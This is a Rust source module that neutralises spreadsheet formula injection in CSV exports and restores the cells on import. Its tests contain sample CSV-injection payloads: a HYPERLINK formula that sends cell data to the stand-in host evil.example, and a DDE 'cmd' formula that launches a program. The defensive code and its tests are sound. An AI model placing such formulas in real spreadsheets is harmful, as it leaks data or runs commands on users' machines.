//! CSV as spreadsheets open it: the one writer every export uses, which keeps a text cell from
//! being run as a formula (OWASP "CSV Injection"), and the rule the import reads it back with.
//!
//! A spreadsheet treats a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return as
//! a formula (`=HYPERLINK(…)`, `=cmd|…`). Such a text cell is written with a leading `'`, which
//! spreadsheets show as text and hide. So that export → import changes nothing, a value that
//! already starts with quotes before such a character gets one more, and the import takes
//! exactly one off ([`restore`]). Numbers in numeric columns ([`Cell::Number`]) are written as
//! they are: `-5` in a quantity is a number, not a formula.

use std::borrow::Cow;

/// The characters that start a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn starts_formula(text: &str) -> bool {
    text.trim_start_matches('\'').starts_with(TRIGGERS)
}

/// A text cell as it is written: with a `'` before it when it would start a formula.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if starts_formula(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A text cell as it was before [`neutralise`]: exactly one `'` taken off a neutralised cell.
pub fn restore(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if starts_formula(rest) => rest,
        _ => text,
    }
}

/// One cell of a row.
#[derive(Debug, Clone, Copy)]
pub enum Cell<'a> {
    /// Typed by people: neutralised.
    Text(&'a str),
    /// A number (or true/false) the program wrote: as it is.
    Number(&'a str),
}

/// A CSV file being written in memory.
pub struct SheetWriter {
    inner: csv::Writer<Vec<u8>>,
}

impl Default for SheetWriter {
    fn default() -> Self {
        SheetWriter::new()
    }
}

impl SheetWriter {
    pub fn new() -> SheetWriter {
        SheetWriter {
            inner: csv::Writer::from_writer(Vec::new()),
        }
    }

    /// A row whose cells are all text (a header, a log line).
    pub fn text_row<S: AsRef<str>>(
        &mut self,
        cells: impl IntoIterator<Item = S>,
    ) -> Result<(), csv::Error> {
        self.inner.write_record(
            cells
                .into_iter()
                .map(|c| neutralise(c.as_ref()).into_owned()),
        )
    }

    /// A row of text and numbers.
    pub fn row(&mut self, cells: &[Cell<'_>]) -> Result<(), csv::Error> {
        for cell in cells {
            let text = match cell {
                Cell::Text(text) => neutralise(text),
                Cell::Number(number) => Cow::Borrowed(*number),
            };
            self.inner.write_field(text.as_bytes())?;
        }
        self.inner.write_record(None::<&[u8]>)
    }

    /// The file's bytes.
    pub fn into_bytes(self) -> Result<Vec<u8>, String> {
        self.inner.into_inner().map_err(|e| e.to_string())
    }
}

/// The file's separator, from its first line: a comma, or the semicolon that spreadsheets in
/// many languages write (where the comma is the decimal mark), or a tab.
pub fn delimiter_of(content: &str) -> u8 {
    let first = content.lines().next().unwrap_or_default();
    let (mut commas, mut semicolons, mut tabs, mut quoted) = (0, 0, 0, false);
    for c in first.chars() {
        match c {
            '"' => quoted = !quoted,
            ',' if !quoted => commas += 1,
            ';' if !quoted => semicolons += 1,
            '\t' if !quoted => tabs += 1,
            _ => {}
        }
    }
    if tabs > commas && tabs > semicolons {
        b'\t'
    } else if semicolons > commas {
        b';'
    } else {
        b','
    }
}

/// A reader of an uploaded file: its header row first, a byte-order mark dropped, the
/// separator found by [`delimiter_of`], and every row as wide as the header.
pub fn reader(content: &str) -> csv::Reader<&[u8]> {
    let content = content.strip_prefix('\u{feff}').unwrap_or(content);
    csv::ReaderBuilder::new()
        .has_headers(true)
        .flexible(false)
        .delimiter(delimiter_of(content))
        .from_reader(content.as_bytes())
}

/// An uploaded file opened with [`reader`] and its header row, or the sentence that says the
/// first line is not CSV column names.
pub fn open_with_header(content: &str) -> Result<(csv::Reader<&[u8]>, csv::StringRecord), String> {
    let mut reader = reader(content);
    let header = reader
        .headers()
        .map_err(|e| format!("The first line could not be read as CSV column names ({e})."))?
        .clone();
    Ok((reader, header))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_neutralised_and_read_back_exactly() {
        for (typed, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            ),
            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
            ("+1", "'+1"),
            ("-2", "'-2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'=x", "''=x"),
            ("''+x", "'''+x"),
            ("plain", "plain"),
            ("'quoted", "'quoted"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(neutralise(typed), written, "{typed:?}");
            assert_eq!(restore(written), typed, "{written:?}");
        }
    }

    #[test]
    fn numbers_stay_numbers() {
        let mut sheet = SheetWriter::new();
        sheet
            .row(&[
                Cell::Text("-5 off"),
                Cell::Number("-5"),
                Cell::Number("12.50"),
            ])
            .unwrap();
        let bytes = sheet.into_bytes().unwrap();
        assert_eq!(String::from_utf8(bytes).unwrap(), "'-5 off,-5,12.50\n");
    }
}
